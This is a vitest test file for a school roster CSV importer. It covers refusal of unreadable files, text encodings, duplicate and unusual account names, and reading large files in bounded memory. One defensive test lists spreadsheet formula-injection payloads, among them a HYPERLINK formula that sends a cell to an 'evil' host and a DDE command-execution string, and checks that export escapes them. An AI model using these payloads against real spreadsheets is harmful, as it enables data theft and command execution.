/** Lists of people as nobody should send them: each is refused whole or row by row, in words, and never half understood. */
import { createWriteStream, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { afterAll, describe, expect, test } from 'vitest'
import { toCsv } from '../../dashboard/core/csv.ts'
import { type ReadRequest, readFiles } from '../../server/roster/reading/index.ts'
import { type Found, readHere } from '../../server/roster/reading/read.ts'

const root = mkdtempSync(join(tmpdir(), 'handrail-hostile-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

let made = 0
function folderWith(files: Record<string, string | Buffer>): ReadRequest {
  const folder = mkdtempSync(join(root, `${made++}-`))
  for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content)
  return { folder, names: Object.keys(files), mapping: null, preset: null, school: { asked: null, remembered: null }, now: Date.UTC(2026, 8, 15) }
}
const read = (content: string | Buffer): Promise<Found> => readHere(folderWith({ 'p.csv': content }), nothingKnown)
const nothingKnown = { remembered: async () => null, known: async () => ({ people: [], classes: [] }) }
const HEAD = 'Adno,Forename,Surname,Login,Email\n'
const people = (found: Found) => [...found.people.values()]

describe('a file that is no list is refused whole', () => {
  test.each<[string, string | Buffer]>([
    ['empty', ''],
    ['a picture renamed .csv', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d])],
    ['cut off inside a cell', `${HEAD}1,Aled,"Bev`],
    ['UTF-16 without its mark', Buffer.from(HEAD, 'utf16le')],
    ['one endless line', `${HEAD}${'x'.repeat(200_000)}`],
  ])('%s', async (_what, content) => {
    await expect(read(content)).rejects.toMatchObject({ code: 'IMPORT_UNREADABLE' })
  })
})

describe('a list is read whatever program wrote it', () => {
  const text = `${HEAD}1,Siân,O’Neill,sian,S@X.example\n`
  test.each<[string, Buffer]>([
    ['UTF-8 with its mark', Buffer.from(`\uFEFF${text}`)],
    ['UTF-16, little end first', Buffer.from(`\uFEFF${text}`, 'utf16le')],
    ['UTF-16, big end first', Buffer.from(`\uFEFF${text}`, 'utf16le').swap16()],
    ['Windows-1252', Buffer.from(text.replace('’', '\u0092'), 'latin1')],
  ])('%s', async (_what, content) => {
    expect(people(await read(content))).toMatchObject([{ givenName: 'Siân', familyName: 'O’Neill', email: 's@x.example' }])
  })
})

describe('C53 a cell that is a formula is a name like any other here, and harmless in what we hand out', () => {
  const FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', ' =1', '=1;2,3', "=cmd|' /C calc'!A0"]
  test('it is kept as it stands and goes out as text', async () => {
    const rows = FORMULAS.map((formula, n) => `${n},"${formula.replaceAll('"', '""')}",Bevan,,`)
    const names = people(await read(`${HEAD}${rows.join('\n')}\n`)).map((p) => p.givenName)
    expect(names).toEqual(FORMULAS.map((f) => f.trim()))
    const out = toCsv(
      ['Adno', 'Forename', 'Surname'],
      names.map((name, n) => [n, name, 'Bevan']),
    )
    const back = people(await read(out)).map((p) => p.givenName)
    expect(back).toEqual(names.map((name) => `'${name}`))
  })
  test('a separator inside a cell stays inside it', async () => {
    const found = await read(`${HEAD}1,"Aled,Zara;\tSiân|Mair",Bevan,a,\n2;Zara;Ali;z;\n`)
    expect(people(found)).toMatchObject([{ givenName: 'Aled,Zara; Siân|Mair', username: 'a' }])
    expect(found.refusedCount).toBe(1)
  })
})

describe('accounts', () => {
  test('two people with one account both come in; one person with two keeps the first and is told of', async () => {
    const found = await read(`${HEAD}1,Aled,Bevan,year1,\n2,Zara,Ali,year1,\n3,Mei,Chen,mchen,\n3,Mei,Chen,mei.chen,\n`)
    expect(people(found).map((p) => [p.externalId, p.username])).toEqual([
      ['1', 'year1'],
      ['2', 'year1'],
      ['3', 'mchen'],
    ])
    expect(found.refused).toMatchObject([{ line: 5, column: 'Adno' }])
  })
  test.each(['SCHOOL\\akhan', 'ａｋｈａｎ', 'οδυσσέας', '学生', `${'x'.repeat(200)}@school.example`])('%j comes in as it is', async (account) => {
    expect(people(await read(`${HEAD}1,Amina,Khan,${account},\n`))).toMatchObject([{ username: account }])
  })
  test('one longer than any system has is refused with its row, and its person is left as they were', async () => {
    const found = await read(`${HEAD}1,Amina,Khan,${'x'.repeat(300)},\n`)
    expect([found.people.size, found.refusedCount, found.spared.has('pupil:1')]).toEqual([0, 1, true])
  })
})

describe('C57 size', () => {
  test('200 MB are read in bounded memory, the progress is told, and giving up ends it at once', async () => {
    const request = folderWith({ 'p.csv': HEAD })
    const row = `1,Aled,Bevan,abevan,${'x'.repeat(960)}\n`
    const block = Buffer.from(row.repeat(1_000))
    await pipeline(
      Readable.from(
        (function* () {
          yield Buffer.from(HEAD)
          for (let i = 0; i < 205; i++) yield block
        })(),
      ),
      createWriteStream(join(request.folder, 'p.csv')),
    )
    const before = process.memoryUsage().rss
    let highest = before
    let told = 0
    const stop = new AbortController()
    const reading = readFiles(
      request,
      {
        remembered: async () => null,
        people: async () => [],
        classes: async () => [],
        merged: async () => [],
        onProgress({ bytes, of }) {
          told++
          highest = Math.max(highest, process.memoryUsage().rss)
          // Far enough to show that memory stays where it is.
          if (bytes > of / 2) stop.abort(new Error('enough'))
        },
      },
      stop.signal,
    )
    await expect(reading).rejects.toThrow('enough')
    expect(told).toBeGreaterThan(1)
    expect(highest - before).toBeLessThan(250 * 1024 * 1024)
  }, 60_000)
})
